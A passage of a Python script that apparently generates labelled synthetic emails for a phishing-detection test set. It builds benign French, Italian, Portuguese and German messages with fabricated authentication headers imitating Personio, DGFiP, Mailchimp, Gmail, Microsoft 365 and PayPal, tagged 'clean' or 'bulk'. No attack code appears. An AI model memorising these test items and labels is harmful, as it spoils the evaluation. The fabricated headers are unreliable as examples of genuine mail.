                          ctry="IE", lang="fr", bcl=0)
    text = f"""Bonjour Gaëlle,

Un nouveau document a été ajouté à votre dossier personnel par Kerlann
Industries :

Bulletin de paie - février 2025

Consulter le document : {link}

Ceci est un message automatique envoyé par Personio pour le compte de
Kerlann Industries. Merci de ne pas y répondre.
Personio SE & Co. KG, Seidlstraße 3, 80335 München
"""
    html = f"""<!DOCTYPE html><html lang="fr"><head><meta charset="utf-8"></head>
<body style="margin:0;background:#f6f6f6;font-family:Inter,Helvetica,Arial,sans-serif;color:#1f1f1f">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:28px 0">
<table width="560" cellpadding="0" cellspacing="0" style="background:#fff;border-radius:6px">
<tr><td style="padding:24px 32px;font-size:15px;color:#6a6a6a">Kerlann Industries</td></tr>
<tr><td style="padding:0 32px;font-size:15px;line-height:22px">Bonjour Gaëlle,<br><br>Un nouveau document a été ajouté à votre dossier personnel par Kerlann Industries&nbsp;:<br><br><b>Bulletin de paie &ndash; février 2025</b></td></tr>
<tr><td style="padding:22px 32px"><a href="{link}" style="background:#1f1f1f;color:#fff;padding:11px 24px;border-radius:4px;text-decoration:none;font-weight:600">Consulter le document</a></td></tr>
<tr><td style="padding:16px 32px 24px;font-size:11px;color:#8a8a8a;border-top:1px solid #eee">Ceci est un message automatique envoyé par Personio pour le compte de Kerlann Industries. Merci de ne pas y répondre.<br>Personio SE &amp; Co. KG, Seidlstraße 3, 80335 München</td></tr>
</table></td></tr></table></body></html>
"""
    sender = f"""\
{dkim('personio.de', 'pm1', 'l17', t, h='Content-Type:From:To:Subject:Message-ID:Date:MIME-Version')}
{dkim('amazonses.com', 'shh3fegwg5fppqsuzphvschd53n6ihuv', 'l17s', t, h='Content-Type:From:To:Subject:Message-ID:Date:MIME-Version:Feedback-ID')}
From: Kerlann Industries via Personio <no-reply@personio.de>
To: {rcpt}
Subject: =?UTF-8?Q?Nouveau_document_disponible_:_Bulletin_de_paie_-_f=C3=A9vrier_2025?=
Message-ID: <0102019{hexs('l17mf', 9)}-{guid('l17mf2')}-000000@eu-west-1.amazonses.com>
Date: {rfc(t)}
MIME-Version: 1.0
Feedback-ID: 1.eu-west-1.{rnd('l17fb', 43)}=:AmazonSES
X-SES-Outgoing: 2025.02.28-54.240.5.102
"""
    emit("bulk", "personio-payslip-available-org-name-fr", "Personio payslip notice written under the organisation's name (SES, auth passes for personio.de); the only link is the company's own personio.de tenant",
         top, sender, alt(hexs("l17b", 28), text, html), bottom)


def l_dgfip_message() -> None:
    t = when("2024-04-11 07:12:45")
    rcpt = "jeanpaul.morvan@orange.fr"
    frm = "ne-pas-repondre@dgfip.finances.gouv.fr"
    top = orange_in(rcpt, t, "145.242.11.60", "smtp-out1.dgfip.finances.gouv.fr", frm, "pass",
                    ("dgfip.finances.gouv.fr", "pass"), "pass", "dgfip.finances.gouv.fr", "l18")
    text = """Madame, Monsieur,

Un nouveau message a été déposé dans la messagerie sécurisée de votre
espace particulier.

Pour le consulter, connectez-vous à votre espace particulier sur le site
impots.gouv.fr, rubrique « Messagerie sécurisée ».

Par mesure de sécurité, ce courriel ne contient aucun lien vers votre
espace particulier. La DGFiP ne vous demandera jamais vos coordonnées
bancaires ou votre mot de passe par courriel.

Ce courriel est envoyé automatiquement, merci de ne pas y répondre.

La Direction générale des Finances publiques
"""
    html = para_html(text, "Marianne, Arial, sans-serif", "14px")
    sender = f"""\
{dkim('dgfip.finances.gouv.fr', 'dgfip2023', 'l18', t, h='From:To:Subject:Date:Message-ID:MIME-Version:Content-Type')}
Received: from appli-mel.dgfip (unknown [10.154.12.{digits('l18o', 2)}])
\tby smtp-out1.dgfip.finances.gouv.fr (Postfix) with ESMTP id 4VFR1F0hYkz3X
\tfor <{rcpt}>; {rfc(t, 'Europe/Paris', seconds=-1)}
From: impots.gouv.fr <{frm}>
To: {rcpt}
Subject: =?UTF-8?Q?Nouveau_message_dans_votre_espace_particulier?=
Date: {rfc(t, 'Europe/Paris', seconds=-2)}
Message-ID: <{digits('l18m', 12)}.{digits('l18m2', 6)}.JavaMail.mel@appli-mel.dgfip>
MIME-Version: 1.0
Auto-Submitted: auto-generated
"""
    emit("bulk", "impots-gouv-nouveau-message-espace-particulier-fr", "genuine DGFiP notice from dgfip.finances.gouv.fr (auth passes): tells the taxpayer to log in by himself, deliberately carries no link",
         top, sender, alt("----=_Part_" + digits("l18b", 6) + "_" + digits("l18b2", 9) + ".1712819565000", text, html))


def l_school_newsletter_it() -> None:
    t = when("2024-04-05 12:30:08")
    rcpt = "giulia.romanelli@libero.it"
    u, lid, cid, eid = hexs("l19u", 25), hexs("l19id", 10), hexs("l19c", 10), hexs("l19e", 10)
    mf = f"bounce-mc.us14_{digits('l19mf', 8)}.{digits('l19mf2', 7)}-{eid}@mail84.suw121.mcsv.net"
    base = "https://icviamontessori.us14.list-manage.com/track/click?u=" + u
    top = libero_in(rcpt, t, "198.2.133.84", "mail84.suw121.mcsv.net", mf, "pass",
                    ("icviamontessori-bo.edu.it", "pass"), "pass", "icviamontessori-bo.edu.it", "l19")
    text = f"""IC Via Montessori - Bologna
Newsletter di aprile 2024

Care famiglie,

- Uscita didattica classi quarte: martedì 16 aprile al Museo del Patrimonio
  Industriale. Autorizzazioni entro il 10 aprile tramite registro elettronico.
- Festa di primavera: sabato 20 aprile dalle 10 nel cortile della primaria.
  Cerchiamo genitori volontari per il banco dei dolci.
- Colloqui individuali: prenotazioni aperte sul registro elettronico dal 8 aprile.

Calendario completo: {base}&id={hexs('l19k1', 10)}&e={eid}

Buona primavera a tutti!
La Dirigente Scolastica, prof.ssa Elena Marchetti

Ricevi questa e-mail perché sei iscritto alla newsletter dell'istituto.
Annulla l'iscrizione: https://icviamontessori.us14.list-manage.com/unsubscribe?u={u}&id={lid}&e={eid}&c={cid}
"""
    html = f"""<!doctype html><html lang="it"><head><meta charset="UTF-8"><meta name="viewport" content="width=device-width, initial-scale=1"><title>Newsletter di aprile 2024</title></head>
<body style="margin:0;padding:0;background:#fafafa">
<span style="display:none;font-size:0;line-height:0;max-height:0;opacity:0;overflow:hidden">Uscita didattica, festa di primavera, colloqui</span>
<center><table width="600" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Georgia,serif;color:#333">
<tr><td style="background:#2e7d32;color:#fff;padding:22px 28px;font-size:20px">IC Via Montessori &ndash; Bologna<br><span style="font-size:14px">Newsletter di aprile 2024</span></td></tr>
<tr><td style="padding:22px 28px;font-size:15px;line-height:23px">Care famiglie,<ul>
<li><b>Uscita didattica classi quarte</b>: martedì 16 aprile al Museo del Patrimonio Industriale. Autorizzazioni entro il 10 aprile tramite registro elettronico.</li>
<li><b>Festa di primavera</b>: sabato 20 aprile dalle 10 nel cortile della primaria. Cerchiamo genitori volontari per il banco dei dolci.</li>
<li><b>Colloqui individuali</b>: prenotazioni aperte sul registro elettronico dal 8 aprile.</li></ul>
<a href="{base}&amp;id={hexs('l19k1', 10)}&amp;e={eid}" style="color:#2e7d32">Calendario completo</a><br><br>Buona primavera a tutti!<br>La Dirigente Scolastica, prof.ssa Elena Marchetti</td></tr>
<tr><td style="padding:16px 28px;font-size:11px;color:#777;background:#f2f2f2;font-family:Helvetica,Arial">Ricevi questa e-mail perché sei iscritto alla newsletter dell'istituto.<br><a href="https://icviamontessori.us14.list-manage.com/profile?u={u}&amp;id={lid}&amp;e={eid}&amp;c={cid}" style="color:#777">Aggiorna preferenze</a> &middot; <a href="https://icviamontessori.us14.list-manage.com/unsubscribe?u={u}&amp;id={lid}&amp;e={eid}&amp;c={cid}" style="color:#777">Annulla l'iscrizione</a></td></tr>
</table></center>
<img src="https://icviamontessori.us14.list-manage.com/track/open.php?u={u}&id={cid}&e={eid}" height="1" width="1" alt="">
</body></html>
"""
    sender = f"""\
{dkim('icviamontessori-bo.edu.it', 'k2', 'l19', t, h='Subject:From:Reply-To:To:Date:Message-ID:List-ID:List-Unsubscribe:List-Unsubscribe-Post:Content-Type:MIME-Version')}
{dkim('mcsv.net', 'k3', 'l19m', t, h='Subject:From:Reply-To:To:Date:Message-ID:List-ID:List-Unsubscribe:List-Unsubscribe-Post:Content-Type:MIME-Version')}
Received: from localhost (localhost [127.0.0.1])
\tby mail84.suw121.mcsv.net (Mailchimp) with ESMTP id 4V9yQm2d7VzHc1
\tfor <{rcpt}>; {rfc(t, seconds=-1)}
Subject: Newsletter di aprile - IC Via Montessori
From: IC Via Montessori <newsletter@icviamontessori-bo.edu.it>
Reply-To: IC Via Montessori <segreteria@icviamontessori-bo.edu.it>
To: <{rcpt}>
Date: {rfc(t)}
Message-ID: <{hexs('l19mid', 25)}.{hexs('l19mid2', 8)}.{cid}@mail84.suw121.mcdlv.net>
X-Mailer: Mailchimp Mailer - **CID{cid}{eid}**
X-Campaign: mailchimp{u}.{cid}
X-campaignid: mailchimp{u}.{cid}
X-Report-Abuse: Please report abuse for this campaign here: https://mailchimp.com/contact/abuse/?u={u}&id={cid}&e={eid}
X-MC-User: {u}
Feedback-ID: {digits('l19fb', 8)}:{digits('l19fb2', 8)}.{digits('l19fb3', 7)}:us14:mc
List-ID: {u}mc list <{u}.{digits('l19li', 6)}.list-id.mcsv.net>
List-Unsubscribe: <https://icviamontessori.us14.list-manage.com/unsubscribe?u={u}&id={lid}&e={eid}&c={cid}>, <mailto:unsubscribe-mc.us14_{u}.{cid}-{eid}@unsubscribe.mailchimpapp.net?subject=unsubscribe>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
MIME-Version: 1.0
"""
    emit("bulk", "scuola-newsletter-mailchimp-it", "a school's monthly newsletter via Mailchimp (auth passes for the school's domain); list-manage click tracking like the Coinbase phish, but school news only",
         top, sender, alt("_----------=_MCPart_" + digits("l19b", 9), text, html))


def l_personal_drive_link() -> None:
    t = when("2024-10-21 22:17:33")
    rcpt = "renata.azevedo@uol.com.br"
    frm = "marcos.tavares.rj@gmail.com"
    link = "https://drive.google.com/drive/folders/1" + rnd("l20f", 32, ALNUM + "-_") + "?usp=sharing"
    top = uol_in(rcpt, t, "209.85.216.54", "mail-pj1-f54.google.com", frm, "pass",
                 ("gmail.com", "pass"), "pass", "gmail.com", "l20")
    text = f"""Oi Renata,

Demorou mas saiu! Subi as fotos do casamento da Ju e do Rafa nessa pasta
do Drive, estão em alta resolução:

{link}

Tem umas 300, separei por momento (cerimônia, festa, bastidores). Se quiser
alguma para imprimir me avisa que eu mando o arquivo original.

Beijo,
Marcos
"""
    html = ('<div dir="ltr"><div>Oi Renata,</div><div><br></div><div>Demorou mas saiu! Subi as fotos do casamento da Ju e do '
            'Rafa nessa pasta do Drive, estão em alta resolução:</div><div><br></div>'
            f'<div><a href="{link}">{link}</a></div><div><br></div>'
            '<div>Tem umas 300, separei por momento (cerimônia, festa, bastidores). Se quiser alguma para imprimir me avisa '
            'que eu mando o arquivo original.</div><div><br></div><div>Beijo,</div><div>Marcos</div></div>\n')
    sender = f"""\
{gmail_out('l20', t)}MIME-Version: 1.0
From: Marcos Tavares <{frm}>
Date: {rfc(t, 'America/Sao_Paulo', seconds=-2)}
Message-ID: {gmail_ids('l20', t)}
Subject: Fotos do casamento da Ju
To: Renata Azevedo <{rcpt}>
"""
    emit("clean", "fotos-casamento-link-google-drive-pt", "a friend's personal Gmail message with a Google Drive folder of wedding photos; no request for anything",
         top, sender, alt(b_gmail("l20a"), text, html))


def l_forwarded_by_colleague() -> None:
    t = when("2025-05-27 08:41:26")
    t0 = when("2025-05-26 16:12:09")
    rcpt = "pierre-yves.nicol@kerlann-industries.fr"
    frm = "yann.quere@kerlann-industries.fr"
    orig_text = """Bonjour Monsieur Quéré,

Nous aurions besoin d'une cotation pour un transport régulier Rennes -
Lyon (Corbas) à partir de septembre :

- 2 enlèvements par semaine (mardi et jeudi), 12 à 16 palettes 80x120
- marchandise sèche, biscuits en cartons, 550 kg par palette environ
- livraison J+1 avant 10 h, prise de rendez-vous par nos soins

Pourriez-vous nous faire une proposition d'ici la fin de la semaine
prochaine ?

Bien cordialement,

Camille Roussel
Responsable logistique - Biscuiterie Émeraude
ZA de la Costardais, 35430 Saint-Jouan-des-Guérets
02 99 81 40 27
"""
    ib = b_outlook("l21ib")
    inner = (f"From: Camille Roussel <c.roussel@biscuiterie-emeraude.fr>\n"
             f"To: \"yann.quere@kerlann-industries.fr\" <yann.quere@kerlann-industries.fr>\n"
             f"Subject: =?iso-8859-1?Q?Demande_de_cotation_transport_Rennes_-_Lyon?=\n"
             f"Date: {rfc(t0, 'Europe/Paris')}\n"
             f"Message-ID: <PAXP251MB{rnd('l21im', 22, UPALNUM)}@PAXP251MB0871.EURP251.PROD.OUTLOOK.COM>\n"
             f"Accept-Language: fr-FR\nContent-Language: fr-FR\nMIME-Version: 1.0\n").encode() \
        + mime.render_part(alt(ib, orig_text, outlook_html(orig_text)))
    text = """Salut Pierre-Yves,

Je te transfère la demande de la Biscuiterie Émeraude (en pièce jointe).
Tu peux regarder ce qu'on peut faire sur Lyon avec la tournée du jeudi ?
Je les rappelle vendredi.

Merci,
Yann

Yann Quéré
Commercial - Kerlann Industries
06 72 18 44 09
"""
    box = f"PR1P264MB{digits('l21b', 4)}.FRAP264.PROD.OUTLOOK.COM"
    sender = f"""\
{m365_internal(rcpt, t, 'l21')}From: =?iso-8859-1?Q?Yann_Qu=E9r=E9?= <{frm}>
To: Pierre-Yves Nicol <{rcpt}>
Subject: TR: Demande de cotation transport Rennes - Lyon
{m365_meta('l21', 'Demande de cotation transport Rennes - Lyon', 'fr-FR', attach=True)}Date: {rfc(t, seconds=-1)}
Message-ID: <{box.split('.')[0]}{rnd('l21m', 22, UPALNUM)}@{box}>
MIME-Version: 1.0
"""
    node = mixed(b_outlook("l21x", 6), alt(b_outlook("l21a"), text, outlook_html(text)),
                 Leaf("message/rfc822", inner, "7bit", "",
                      'attachment;\n\tfilename="Demande de cotation transport Rennes - Lyon.eml"'))
    emit("clean", "tr-demande-cotation-eml-joint-collegue-fr", "colleague forwards a customer's quote request as an attached .eml inside the organisation's tenant; no link at all",
         "", sender, node, m365_internal_bottom(t, "l21", box, frm))


def l_partner_teams_invite() -> None:
    t = when("2025-02-10 13:20:55")
    rcpt = "gaelle.riou@kerlann-industries.fr"
    frm = "lucas.fabre@routeo.io"
    teams = ("https://teams.microsoft.com/l/meetup-join/19%3ameeting_" + rnd("l22tm", 48, ALNUM) +
             "%40thread.v2/0?context=%7b%22Tid%22%3a%22" + guid("l22tid") + "%22%2c%22Oid%22%3a%22" + guid("l22oid") + "%22%7d")
    uid = "040000008200E00074C5B7101A82E00800000000" + hexs("l22uid", 56).upper()
    desc = ("Bonjour Gaëlle,\n\nPoint mensuel sur le pilote Routeo (quais 2 et 3) : retours des chauffeurs, "
            "taux de créneaux respectés, planning de déploiement sur Saint-Malo.\n\n"
            "________________________________________________________________________________\n"
            "Réunion Microsoft Teams\nRejoindre : " + teams + "\nID de réunion : 371 448 902 615\nCode secret : Fq7kB2\n"
            "________________________________________________________________________________")
    ics = ics_fold(f"""BEGIN:VCALENDAR
METHOD:REQUEST
PRODID:Microsoft Exchange Server 2010
VERSION:2.0
BEGIN:VTIMEZONE
TZID:Romance Standard Time
BEGIN:STANDARD
DTSTART:16010101T030000
TZOFFSETFROM:+0200
TZOFFSETTO:+0100
RRULE:FREQ=YEARLY;INTERVAL=1;BYDAY=-1SU;BYMONTH=10
END:STANDARD
BEGIN:DAYLIGHT
DTSTART:16010101T020000
TZOFFSETFROM:+0100
TZOFFSETTO:+0200
RRULE:FREQ=YEARLY;INTERVAL=1;BYDAY=-1SU;BYMONTH=3
END:DAYLIGHT
END:VTIMEZONE
BEGIN:VEVENT
ORGANIZER;CN=Lucas Fabre:mailto:{frm}
ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN=Gaëlle Riou:mailto:{rcpt}
DESCRIPTION;LANGUAGE=fr-FR:{ics_text(desc)}
UID:{uid}
SUMMARY;LANGUAGE=fr-FR:Point mensuel Routeo x Kerlann
DTSTART;TZID=Romance Standard Time:20250218T110000
DTEND;TZID=Romance Standard Time:20250218T114500
CLASS:PUBLIC
PRIORITY:5
DTSTAMP:20250210T132055Z
TRANSP:OPAQUE
STATUS:CONFIRMED
SEQUENCE:0
LOCATION;LANGUAGE=fr-FR:Réunion Microsoft Teams
X-MICROSOFT-CDO-APPT-SEQUENCE:0
X-MICROSOFT-CDO-BUSYSTATUS:TENTATIVE
X-MICROSOFT-SKYPETEAMSMEETINGURL:{teams}
BEGIN:VALARM
DESCRIPTION:REMINDER
TRIGGER;RELATED=START:-PT15M
ACTION:DISPLAY
END:VALARM
END:VEVENT
END:VCALENDAR
""")
    text = desc + "\n"
    html = (outlook_html(desc).replace(htmllib.escape(teams), f'<a href="{teams}">Cliquez ici pour rejoindre la réunion</a>'))
    out1, mid = m365_out("l22", t, "routeo.io", region="FRAP264", host="PR2P264MB")
    top, bottom = m365_in(rcpt, t, "40.107.162.118", "FRA01-MR2-obe.outbound.protection.outlook.com", frm, "pass",
                          ("routeo.io", "pass"), ("pass", "none"), "routeo.io", ("pass", "100"), "l22",
                          ctry="FR", lang="fr", ptr="mail-mr2fra01on2118.outbound.protection.outlook.com")
    sender = f"""\
{out1}From: Lucas Fabre <{frm}>
To: =?iso-8859-1?Q?Ga=EBlle_Riou?= <{rcpt}>
Subject: Point mensuel Routeo x Kerlann
{m365_meta('l22', 'Point mensuel Routeo x Kerlann', 'fr-FR')}Date: {rfc(t, seconds=-3)}
Message-ID: {mid}
X-MS-Exchange-Calendar-Series-Instance-Id: BAAAAIIA4AB0xbcQGoLgCAAAAAA{rnd('l22si', 40)}
MIME-Version: 1.0
"""
    node = Multi("alternative", b_outlook("l22a"), [txt(text), htm(html),
                 Leaf("text/calendar", ics.encode(), "base64", '; charset="utf-8"; method=REQUEST')])
    emit("clean", "partner-outlook-meeting-request-teams-ics-fr", "partner's Outlook meeting request from its own M365 tenant (auth passes): the .ics description holds a Teams join link, nothing else",
         top, sender, node, bottom)


def l_paypal_invoice_genuine_de() -> None:
    t = when("2024-08-21 10:05:37")
    rcpt = "k.brandstetter@gmx.de"
    inv = "INV2-" + "-".join(rnd("l23i" + str(k), 4, UPALNUM) for k in range(4))
    link = f"https://www.paypal.com/invoice/p/#{inv.replace('-', '')}"
    top = gmx_in(rcpt, t, "173.0.84.227", "mx3.slc.paypal.com", "service@paypal.de", "pass",
                 ("paypal.de", "pass"), "pass", "paypal.de", "l23")
    note = ("Vielen Dank für das Familien-Shooting am 17.08. im Luisenpark! Die bearbeiteten Bilder (32 Stück) "
            "schicke ich Ihnen bis Ende nächster Woche per WeTransfer. Viele Grüße, Lena Fischer")
    text = f"""Fotostudio Lichtblick hat Ihnen eine Rechnung über 180,00 € EUR geschickt

Fällig bei Erhalt

Rechnungsnummer: 0017
Angeforderter Betrag: 180,00 € EUR

Nachricht vom Verkäufer:
{note}

Rechnung ansehen und bezahlen: {link}

Copyright © 1999-2024 PayPal. Alle Rechte vorbehalten.
PayPal (Europe) S.à r.l. et Cie, S.C.A., 22-24 Boulevard Royal, L-2449 Luxembourg
"""
    html = f"""<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"></head>
<body style="margin:0;background:#f2f2f2;font-family:'PayPal Sans',Helvetica,Arial,sans-serif;color:#2c2e2f">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px 0">
<table width="600" cellpadding="0" cellspacing="0" style="background:#fff">
<tr><td style="padding:26px 40px"><img src="https://www.paypalobjects.com/digitalassets/c/system-triggered-email/n/layout/images/paypal-rebranding/pp-logo-in-circle-2x.png" width="44" alt="PayPal"></td></tr>
<tr><td style="padding:0 40px;font-size:26px;font-weight:bold">Fotostudio Lichtblick hat Ihnen eine Rechnung über 180,00&nbsp;&euro; EUR geschickt</td></tr>
<tr><td style="padding:14px 40px;font-size:15px;color:#6c7378">Fällig bei Erhalt</td></tr>
<tr><td style="padding:6px 40px"><table width="100%" cellpadding="6" style="font-size:15px;border-top:1px solid #eaeced;border-bottom:1px solid #eaeced"><tr><td>Rechnungsnummer</td><td align="right">0017</td></tr><tr><td>Angeforderter Betrag</td><td align="right"><b>180,00 &euro; EUR</b></td></tr></table></td></tr>
<tr><td style="padding:18px 40px 4px;font-size:15px;font-weight:bold">Nachricht vom Verkäufer</td></tr>
<tr><td style="padding:0 40px 18px;font-size:15px;line-height:22px">{htmllib.escape(note)}</td></tr>
<tr><td align="center" style="padding:10px 40px 26px"><a href="{link}" style="background:#003087;color:#fff;padding:12px 40px;border-radius:24px;text-decoration:none;font-weight:bold">Rechnung ansehen und bezahlen</a></td></tr>
<tr><td style="padding:20px 40px;background:#f7f9fa;font-size:11px;color:#6c7378">Copyright &copy; 1999-2024 PayPal. Alle Rechte vorbehalten.<br>PayPal (Europe) S.&agrave; r.l. et Cie, S.C.A., 22-24 Boulevard Royal, L-2449 Luxembourg</td></tr>
</table></td></tr></table></body></html>
"""
    sender = f"""\
{dkim('paypal.de', 'pp-dkim1', 'l23', t, h='Content-Type:Date:PP-Correlation-Id:Subject:To:From:Message-ID:MIME-Version')}
Received: from ccg01mail07.slc.paypalcorp.com (unknown [10.74.2.215])
\tby mx3.slc.paypal.com (Postfix) with ESMTP id 4WphQx2Cjqz1Vn
\tfor <{rcpt}>; {rfc(t, 'America/Los_Angeles', seconds=-1)}
Date: {rfc(t, 'America/Los_Angeles', seconds=-2)}
PP-Correlation-Id: {hexs('l23cid', 13)}
Subject: =?UTF-8?Q?Rechnung_von_Fotostudio_Lichtblick_=280017=29?=
To: {rcpt}
From: "service@paypal.de" <service@paypal.de>
Message-ID: <{hexs('l23mid', 13)}.{digits('l23mid2', 5)}@paypal.com>
X-MaxCode-Template: PPX001206
X-Email-Type-Id: PPX001206
MIME-Version: 1.0
"""
    emit("clean", "paypal-rechnung-fotostudio-genuine-de", "genuine PayPal invoice from a photographer the customer hired (auth passes for paypal.de); the seller's note is about the shoot, no phone number or charge scare",
         top, sender, alt("----=_Part_" + digits("l23b", 6) + "_" + digits("l23b2", 9) + ".1724234737123", text, html))


def l_designer_svg_logos() -> None:
    t = when("2024-05-14 17:26:48")
    rcpt = "anais.ledu@kerlann-industries.fr"
    frm = "morgane@studio-lelay.fr"
    svg = """<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 480 140" width="480" height="140">
  <title>Kerlann Industries - logo horizontal</title>
  <defs>
    <linearGradient id="g" x1="0" y1="0" x2="1" y2="1">
      <stop offset="0" stop-color="#0b4f6c"/>
      <stop offset="1" stop-color="#1b8a8f"/>
    </linearGradient>
  </defs>
  <rect x="10" y="20" width="100" height="100" rx="14" fill="url(#g)"/>
  <path d="M38 42 v56 M38 70 l30 -28 M44 64 l26 34" stroke="#ffffff" stroke-width="10" stroke-linecap="round" fill="none"/>
  <text x="130" y="78" font-family="Montserrat, Arial, sans-serif" font-size="40" font-weight="700" fill="#0b4f6c">KERLANN</text>
  <text x="132" y="108" font-family="Montserrat, Arial, sans-serif" font-size="18" letter-spacing="6" fill="#1b8a8f">INDUSTRIES</text>
</svg>
"""
    from PIL import Image, ImageDraw

    img = Image.new("RGB", (480, 140), (255, 255, 255))
    d = ImageDraw.Draw(img)
    d.rounded_rectangle([10, 20, 110, 120], radius=14, fill=(11, 79, 108))
    d.line([(38, 42), (38, 98)], fill=(255, 255, 255), width=10)
    d.line([(38, 70), (68, 42)], fill=(255, 255, 255), width=10)
    d.line([(44, 64), (70, 98)], fill=(255, 255, 255), width=10)
    d.text((130, 40), "KERLANN", font=text_font(40), fill=(11, 79, 108))
    d.text((132, 90), "INDUSTRIES", font=text_font(18), fill=(27, 138, 143))
    buf = io.BytesIO()
    img.save(buf, "PNG", optimize=True)
    png = buf.getvalue()
    top, bottom = m365_in(rcpt, t, "209.85.128.43", "mail-wm1-f43.google.com", frm, "pass",
                          ("studio-lelay.fr", "pass"), ("pass", "none"), "studio-lelay.fr", ("pass", "100"), "l24",
                          ctry="US", lang="fr")
    text = """Bonjour Anaïs,

Voici les fichiers finaux du logo après vos derniers retours (bleu un peu
plus profond, « INDUSTRIES » espacé) :

- Kerlann_logo_horizontal.svg : version vectorielle, pour l'imprimeur et le
  site web
- Kerlann_logo_horizontal.png : version 480 px pour les e-mails et Office

La charte complète (déclinaisons monochromes, zones de protection) suit
demain en PDF.

Belle soirée,
Morgane

Morgane Le Lay - Studio Le Lay, design graphique
06 31 77 20 58 - studio-lelay.fr
"""
    html = ('<div dir="ltr">' + "".join(f"<div>{htmllib.escape(l) if l else '<br>'}</div>" for l in text.rstrip().split("\n")) + "</div>\n")
    out = gmail_out("l24", t, h="mime-version:from:date:message-id:subject:to").replace("d=gmail.com", "d=studio-lelay.fr").replace("s=20230601", "s=google", 1)
    sender = f"""\
{out}MIME-Version: 1.0
From: Morgane Le Lay <{frm}>
Date: {rfc(t, 'Europe/Paris', seconds=-2)}
Message-ID: {gmail_ids('l24', t)}
Subject: Logos finaux - SVG + PNG
To: =?UTF-8?B?QW5hw69zIExlIER1?= <{rcpt}>
"""
    emit("clean", "designer-final-logo-svg-png-attachments-fr", "freelance designer's own Google Workspace mailbox (auth passes) delivering the logo as a plain SVG (shapes and text, no script) and a PNG",
         top, sender, mixed(b_gmail("l24b"), alt(b_gmail("l24a"), text, html),
                            att("image/svg+xml", "Kerlann_logo_horizontal.svg", svg.encode()),
                            att("image/png", "Kerlann_logo_horizontal.png", png)), bottom)


def text_font(size: int):
    from build_blind3_samples import _font
    return _font(size, True)


def l_agency_zip_mockup() -> None:
    t = when("2024-06-18 11:52:04")
    rcpt = "anais.ledu@kerlann-industries.fr"
    frm = "thomas.h@pixelarmor.fr"
    index = """<!DOCTYPE html>
<html lang="fr">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Kerlann Infos - juin 2024 (maquette v3)</title>
</head>
<body style="margin:0;background:#eef3f5;font-family:Arial,Helvetica,sans-serif;color:#23313a">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px 0">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff">
<tr><td><img src="images/hero.jpg" width="600" alt="Le nouveau quai 3 à Rennes" style="display:block"></td></tr>
<tr><td style="padding:24px 30px 6px;font-size:24px;font-weight:bold;color:#0b4f6c">Le quai 3 est ouvert !</td></tr>
<tr><td style="padding:6px 30px;font-size:15px;line-height:23px">Après six mois de travaux, notre nouveau quai de réception accueille jusqu'à 40 camions par jour. [Texte à valider par la direction.]</td></tr>
<tr><td style="padding:16px 30px"><a href="https://www.kerlann-industries.fr/actualites/quai-3" style="background:#1b8a8f;color:#fff;padding:10px 22px;text-decoration:none">Lire l'article</a></td></tr>
<tr><td style="padding:16px 30px;font-size:12px;color:#7a8a94;background:#f4f7f8">Kerlann Industries - 14 rue de la Donelière, 35000 Rennes</td></tr>
</table></td></tr></table>
</body>
</html>
"""
    hero = files.photo_jpeg(7, (600, 260))
    data = files.zip_archive([("maquette_newsletter_v3/index.html", index.encode("utf-8")),
                              ("maquette_newsletter_v3/images/hero.jpg", hero),
                              ("maquette_newsletter_v3/LISEZMOI.txt",
                               "Maquette v3 - ouvrir index.html dans un navigateur. Images en basse definition.\n".encode())])
    top, bottom = m365_in(rcpt, t, "46.105.35.40", "mo552.mail-out.ovh.net", frm, "pass",
                          ("pixelarmor.fr", "pass"), ("pass", "none"), "pixelarmor.fr", ("pass", "100"), "l25",
                          ctry="FR", lang="fr", ptr="mo552.mail-out.ovh.net")
    text = """Bonjour Anaïs,

Comme convenu ce matin, voici la maquette v3 de la newsletter interne de
juin (zip : ouvrir index.html dans le navigateur). Nous avons intégré vos
remarques sur le bandeau et le bouton « Lire l'article ».

Il reste le texte du quai 3 à faire valider par la direction ; on peut
programmer l'envoi dès que c'est bon de votre côté.

Bonne journée,
Thomas Hamon
Pixel Armor - agence web
02 99 65 12 84
"""
    sender = f"""\
{dkim('pixelarmor.fr', 'ovhmo4203', 'l25', t, h='From:To:Subject:Date:Message-ID:MIME-Version:Content-Type')}
Received: from mxplan7.mail.ovh.net (unknown [10.109.143.19])
\tby mo552.mail-out.ovh.net (Postfix) with ESMTPS id 4W3QmT0Yq5z1SPv
\tfor <{rcpt}>; {rfc(t, seconds=-2)}
Received: from pixelarmor.fr (37.59.142.98) by DAG4EX2.mxp7.local (172.16.2.34)
 with Microsoft SMTP Server (version=TLS1_2,
 cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.1.2507.39; {rfc(t, 'Europe/Paris', seconds=-3)}
Authentication-Results: garm.ovh; auth=pass (GARM-98R002b1a4c0d7-3e2f-4a6b-8c9d-0e1f2a3b4c5d,
                    B7C8D9E0F1A2B3C4D5E6F7A8B9C0D1E2F3A4B5C6) smtp.auth=thomas.h@pixelarmor.fr
X-OVh-ClientIp: 90.120.44.17
Message-ID: <{guid('l25m')}@pixelarmor.fr>
Date: {rfc(t, 'Europe/Paris', seconds=-4)}
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Language: fr
To: =?UTF-8?B?QW5hw69zIExlIER1?= <{rcpt}>
From: Thomas Hamon <{frm}>
Subject: Maquette newsletter juin - v3 (zip)
X-Ovh-Tracer-Id: {digits('l25tr', 19)}
X-VR-SPAMSTATE: OK
"""
    emit("clean", "web-agency-newsletter-mockup-zip-with-html-fr", "web agency's reply with a ZIP holding a static HTML newsletter mock-up (no script, no form) and a JPEG, from its own OVH mailbox (auth passes, French client IP)",
         top, sender, mixed(b_tbird("l25b"), txt(text), att("application/zip", "maquette_newsletter_v3.zip", data)), bottom)


def l_dropbox_transfer_genuine() -> None:
    t = when("2025-04-03 15:07:33")
